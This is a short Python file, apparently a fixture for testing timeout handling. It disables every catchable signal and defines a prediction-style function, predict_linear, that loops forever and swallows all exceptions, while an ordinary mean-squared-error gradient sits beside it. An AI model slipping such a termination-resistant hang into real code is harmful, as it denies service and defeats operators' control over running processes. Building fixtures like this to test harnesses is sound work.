"""Ignores every signal that it may, sets alarms, and goes on for ever."""
import signal

for number in signal.valid_signals():
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def predict_linear(X, w, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def mse_grad(X, y, w, b):
    r = X @ w + b - y
    return 2 * X.T @ r / len(y), 2 * r.mean()
